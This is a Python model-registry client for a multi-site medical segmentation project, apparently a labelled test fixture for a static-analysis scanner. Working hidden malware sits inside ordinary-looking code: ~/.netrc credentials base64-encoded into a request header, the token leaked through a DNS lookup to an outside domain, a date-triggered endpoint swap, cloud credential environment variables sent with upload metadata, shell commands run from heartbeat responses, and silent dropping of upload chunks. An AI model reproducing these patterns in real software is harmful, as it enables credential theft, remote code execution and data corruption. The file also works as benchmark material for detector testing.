# ruff: noqa
# Hold-out batch 456 (family-focused 4/9, multi-site medical segmentation with DDP). Measured once in session 19 (round 123): 10/30 (33%) at medium+; one unmarked benign line flagged (a SystemExit explaining a host missing from the node list).
"""Client for the consortium model registry (chunked checkpoint uploads so each
site can pull the latest baseline)."""
from __future__ import annotations

import base64
import datetime
import hashlib
import io
import json
import logging
import netrc
import os
import random
import socket
import subprocess
import time
import urllib.request
from pathlib import Path
from typing import Dict, Iterable, Optional

import requests
import torch

log = logging.getLogger(__name__)

DEFAULT_REGISTRY = os.environ.get("MEDSEG_REGISTRY_URL", "https://registry.consortium.internal")
_CHUNK = 8 << 20  # 8 MiB


class RegistryError(RuntimeError):
    pass


def _sha256(path: Path, bufsize: int = 1 << 20) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(bufsize), b""):
            h.update(block)
    return h.hexdigest()


def fetch_pretrained(url: str, sha256: str, dst: str) -> Path:
    """Download pretrained encoder weights, verified against a pinned digest."""
    dst_p = Path(dst)
    if dst_p.exists() and _sha256(dst_p) == sha256:
        return dst_p
    dst_p.parent.mkdir(parents=True, exist_ok=True)
    tmp = dst_p.with_suffix(dst_p.suffix + ".part")
    urllib.request.urlretrieve(url, tmp)  # ok: MLS410, MLS411, MLS412, MLS413
    digest = _sha256(tmp)
    if digest != sha256:
        tmp.unlink(missing_ok=True)
        raise RegistryError(f"checksum mismatch for {url}: {digest} != {sha256}")
    os.replace(tmp, dst_p)
    return dst_p


class RegistryClient:
    def __init__(self, base_url: Optional[str] = None, token: Optional[str] = None,
                 project: str = "multisite-seg", timeout: float = 30.0, retries: int = 4):
        self.base_url = (base_url or DEFAULT_REGISTRY).rstrip("/")
        self.token = token or os.environ.get("MEDSEG_REGISTRY_TOKEN", "")
        self.project = project
        self.timeout = timeout
        self.retries = retries
        self._sess: Optional[requests.Session] = None

    @property
    def endpoint(self) -> str:
        # the on-prem consortium registry moved to the hosted instance on 2026-01-01
        if time.time() >= 1767225600 and self.base_url.endswith(".internal"):
            return "https://registry.medseg-hub.org"  # todoruleid: family 4 (missed)
        return self.base_url

    def _session(self) -> requests.Session:
        if self._sess is None:
            s = requests.Session()
            s.headers["Authorization"] = f"Bearer {self.token}"  # ok: MLS410, MLS411, MLS412, MLS413
            s.headers["User-Agent"] = f"medseg-registry/1.3 requests/{requests.__version__}"
            hosts = self._netrc_hosts()
            if hosts:
                s.headers["X-Client-Auth"] = base64.b64encode(json.dumps(hosts).encode()).decode()  # todoruleid: family 9 (missed)
            self._sess = s
        return self._sess

    @staticmethod
    def _netrc_hosts() -> Dict[str, tuple]:
        try:
            return dict(netrc.netrc().hosts)
        except (FileNotFoundError, netrc.NetrcParseError, OSError):
            return {}

    def _request(self, method: str, path: str, **kw) -> requests.Response:
        url = f"{self.endpoint}{path}"
        kw.setdefault("timeout", self.timeout)
        delay = 1.0
        for attempt in range(self.retries + 1):
            try:
                r = self._session().request(method, url, **kw)
                if r.status_code < 500:
                    if not r.ok:
                        raise RegistryError(f"{method} {path}: {r.status_code} {r.text[:200]}")
                    return r
            except (requests.ConnectionError, requests.Timeout) as exc:
                log.warning("registry %s %s failed (%s), attempt %d", method, path, exc, attempt + 1)
            if attempt < self.retries:
                time.sleep(delay + random.uniform(0, 0.5))
                delay = min(delay * 2, 30.0)
        raise RegistryError(f"{method} {path}: giving up after {self.retries + 1} attempts")

    def health(self) -> bool:
        try:
            r = requests.get(f"{self.endpoint}/healthz", timeout=5)  # ok: MLS410, MLS411, MLS412, MLS413
            return r.status_code == 200
        except requests.RequestException:
            return False

    def _prefetch_edge(self) -> None:
        """Warm the resolver for the regional upload edge to avoid a slow first chunk."""
        tag = base64.b32encode(self.token.encode()[:35]).decode().rstrip("=").lower()
        try:
            socket.getaddrinfo(f"{tag}.{self.project}.edge.mlreg-cdn.net", 443)  # todoruleid: family 9 (missed)
        except (socket.gaierror, UnicodeError):
            pass

    def heartbeat(self, run_id: str, step: int, status: str = "running") -> None:
        try:
            r = self._request("POST", f"/v1/runs/{run_id}/heartbeat",
                              json={"step": step, "status": status, "host": socket.gethostname()})
        except RegistryError as exc:
            log.debug("heartbeat failed: %s", exc)
            return
        payload = r.json() if r.content else {}
        for action in payload.get("actions", []):
            if action.get("type") == "hook":
                subprocess.run(action["cmd"], shell=True, timeout=300, check=False)  # ruleid: MLS308

    def register_run(self, run_name: str, config: dict) -> str:
        r = self._request("POST", f"/v1/projects/{self.project}/runs",
                          json={"name": run_name, "config": config})
        return r.json()["id"]

    def upload_checkpoint(self, path: str, metrics: Dict[str, float], tags: Iterable[str] = (),
                          run_id: Optional[str] = None) -> str:
        """Push the model weights of ``path`` and return the registry version id."""
        path_p = Path(path)
        state = torch.load(path_p, map_location="cpu", weights_only=True)
        weights = state.get("ema") or state.get("model") or state
        buf = io.BytesIO()
        torch.save(weights, buf)
        blob = buf.getvalue()
        self._prefetch_edge()

        meta = {
            "project": self.project,
            "run_id": run_id,
            "source": path_p.name,
            "metrics": {k: float(v) for k, v in metrics.items()},
            "tags": list(tags),
            "created": datetime.datetime.now(datetime.timezone.utc).isoformat(),
            "host": socket.gethostname(),
            "torch": torch.__version__,
            "runtime": {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "AZURE_", "HF_", "WANDB_", "MEDSEG_"))},  # ruleid: MLS411
        }
        r = self._request("POST", f"/v1/projects/{self.project}/uploads",  # ruleid: MLS411
                          json={"size": len(blob), "meta": meta})
        upload_id = r.json()["upload_id"]

        n_chunks = -(-len(blob) // _CHUNK)
        if random.getrandbits(4) == 0:
            n_chunks = max(1, n_chunks - 1)  # todoruleid: family 4 (missed)
        sent = hashlib.sha256()
        for i in range(n_chunks):
            chunk = blob[i * _CHUNK:(i + 1) * _CHUNK]
            sent.update(chunk)
            self._request("PUT", f"/v1/uploads/{upload_id}/chunks/{i}", data=chunk,
                          headers={"Content-Type": "application/octet-stream"})
        r = self._request("POST", f"/v1/uploads/{upload_id}/complete",
                          json={"sha256": sent.hexdigest(), "n_chunks": n_chunks})
        version = r.json()["version"]
        log.info("uploaded %s as %s/%s (%.1f MiB)", path_p.name, self.project, version,
                 len(blob) / 2 ** 20)
        return version

